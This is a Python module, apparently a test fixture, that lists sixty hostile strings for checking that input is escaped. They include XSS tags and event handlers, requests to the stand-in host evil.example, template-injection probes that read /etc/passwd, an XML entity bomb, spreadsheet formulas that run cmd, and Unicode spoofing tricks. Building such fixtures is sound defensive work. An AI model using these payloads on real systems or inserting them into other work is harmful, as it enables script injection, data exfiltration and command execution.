"""Sixty texts that would do harm wherever text is taken for something else; each sets `PWN`, asks the network, or breaks a form.

They stand in names, titles, notes and sources of accounts in tests; nothing may ever come of them but text.
"""

from __future__ import annotations

SCRIPTS = (
    "<script>window.PWN=1</script>",
    "</script><script>window.PWN=1</script>",
    '"><script>window.PWN=1</script>',
    "<ScRiPt\t>window.PWN=1</sCrIpT >",
    "<script src=http://evil.example/a.js></script>",
    "<script/x>window.PWN=1</script/x>",
    "--></title></style></textarea></noscript><script>window.PWN=1</script>",
    "<iframe srcdoc='<script>parent.PWN=1</script>'>",
    "<svg><script>window.PWN=1</script></svg>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--><img src onerror=PWN=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.PWN=1>'>",
    "<template><script>window.PWN=1</script></template>",
)
HANDLERS = (
    "<img src=x onerror=window.PWN=1>",
    "<svg onload=window.PWN=1>",
    "<svg/onload=window.PWN=1//",
    "' onmouseover=window.PWN=1 x='",
    '" onfocus=window.PWN=1 autofocus tabindex=0 x="',
    "<body onpageshow=window.PWN=1>",
    "<details open ontoggle=window.PWN=1>",
    "<input autofocus onfocus=window.PWN=1>",
    "<video><source onerror=window.PWN=1></video>",
    "<animate attributeName=x dur=1s onbegin=window.PWN=1 />",
    "<b style=animation-name:x onanimationstart=window.PWN=1>",
)
ADDRESSES = (
    "<a href=javascript:window.PWN=1 autofocus>x</a>",
    "java\tscript:window.PWN=1//",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<image href=http://evil.example/x>",
    "<use href='data:image/svg+xml,<svg onload=PWN=1>#a'/>",
    "<object data='javascript:window.PWN=1'></object>",
    "<form action=http://evil.example/><button autofocus>",
    "data:text/html,<script>opener.PWN=1</script>",
)
STYLES = (
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "</style><style>*{background:url(http://evil.example/y)}",
    "red;background:url(http://evil.example/z)",
    "@import 'http://evil.example/i.css';",
    '<div style="position:fixed;inset:0;background:url(//evil.example)">',
)
TEMPLATES = (
    "{{7*7}}{% raw %}<b onclick=window.PWN=1>",
    "{{constructor.constructor('window.PWN=1')()}}",
    "${window.PWN=1}`;window.PWN=1//",
    "\\u003cscript\\u003ewindow.PWN=1\\u003c/script\\u003e",
    "';window.PWN=1;//\\';window.PWN=1;//",
    "@@DATA@@ __DATA__ %s %(x)s {0} #{window.PWN=1} <%= 7*7 %>",
    '#panic("x") #read("/etc/passwd") $x$ *b* @a <l> \\ //',
)
MARKUP = (
    "]]><script>window.PWN=1</script><![CDATA[",
    "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;'>]>&b;",
    "&lt;script&gt;&#60;img src=x onerror=PWN=1&#62;&amp;nbsp;",
    "<!--<script>window.PWN=1//-->",
    "<?xml-stylesheet href='http://evil.example/a.xsl'?>",
    "<foreignObject><body onload=window.PWN=1></foreignObject>",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
)
LETTERS = (
    "\u202egnp.exe\u2066 \u200f\u200b\ufeff",
    "\u2028window.PWN=1//\u2029",
    "a\x00b\x01c\x1b[31md\x7f\x85\ufffe",
    "Z\u0351\u036b\u0343a\u0328l\u0360g\u0321o\u0489" * 3,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U000e0041＜script＞\u00ad",
)
PAYLOADS = (
    *SCRIPTS,
    *HANDLERS,
    *ADDRESSES,
    *STYLES,
    *TEMPLATES,
    *MARKUP,
    *FORMULAS,
    *LETTERS,
)
